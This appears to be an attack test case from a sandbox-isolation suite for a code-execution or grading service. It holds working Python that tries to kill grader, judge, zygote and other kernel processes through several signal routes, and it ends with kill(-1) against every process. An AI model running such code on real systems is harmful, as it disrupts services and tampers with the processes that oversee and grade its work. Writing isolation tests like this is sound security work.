# /// attack
# title = "Signals the grader, the zygote, a judge, another kernel, and everybody at once"
# [tier.process]
# run = false
# reason = "there is no sandbox in this tier: a program signals whatever its user runs; the run breaks off and has to be started again"
# ///

# %%
import ctypes
import os
import signal

PIDS = {"grader": @GRADER_PID@, "zygote": @ZYGOTE_PID@, "judge": @JUDGE_PID@, "another kernel": @KERNEL_PID@}
libc = ctypes.CDLL(None, use_errno=True)
for who, pid in PIDS.items():
    for number in (0, signal.SIGCONT, signal.SIGTERM, signal.SIGKILL):
        print("TRIED", who, number)
        if pid != os.getpid():
            for name, send in {
                "kill": lambda: os.kill(pid, number),
                "killpg": lambda: os.killpg(pid, number),
                "pidfd": lambda: signal.pidfd_send_signal(os.pidfd_open(pid), number),
                "tgkill": lambda: 1 / (not libc.syscall(234, pid, pid, number)),
                "sigqueue": lambda: 1 / (not libc.syscall(129, pid, number, bytes([number, 0, 0, 0, 0, 0, 0, 0, 255, 255, 255, 255]) + bytes(116))),
            }.items():
                try:
                    send()
                    print("BROKE signalled", who, name, number)
                except (OSError, ZeroDivisionError) as error:
                    print(error)

# %%
import fcntl

print("TRIED a signal through an open file")
reading, writing = os.pipe()
for pid in PIDS.values():
    try:
        fcntl.fcntl(reading, fcntl.F_SETOWN, pid)
        fcntl.fcntl(reading, 10, signal.SIGKILL)
        fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
        os.write(writing, b"x")
    except OSError as error:
        print(error)

# %%
print("TRIED everybody")
for number in (signal.SIGCONT, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL, signal.SIGSTOP):
    if os.fork() == 0:
        try:
            os.kill(-1, number)
        finally:
            os._exit(0)
os.kill(-1, signal.SIGTERM)
